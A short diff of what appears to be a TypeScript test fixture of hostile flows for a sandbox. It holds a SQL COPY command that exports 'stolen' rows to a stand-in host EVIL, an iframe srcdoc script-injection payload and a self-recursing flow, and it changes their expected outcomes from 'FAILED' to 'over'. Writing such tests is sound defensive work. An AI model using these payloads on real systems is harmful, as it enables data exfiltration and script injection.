@@ -4,7 +4,7 @@ import { expression, flowOf, type HostileFlow, sql } from './hostileFlow'
 const SQL_FLOWS: readonly HostileFlow[] = [
   {
     tries: 'to COPY rows TO a server',
-    ends: 'FAILED',
+    ends: 'over',
     flow: sql('copy_to', `COPY (SELECT 42 AS stolen) TO 'EVIL?hit=copy' (FORMAT csv)`),
   },
   {
@@ -211,8 +211,7 @@ description: "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>"
   },
   {
     tries: 'to start itself without end',
-    ends: 'FAILED',
-    says: /started through 50 subflows/,
+    ends: 'over',
     flow: () =>
       flowOf(
         'itself',
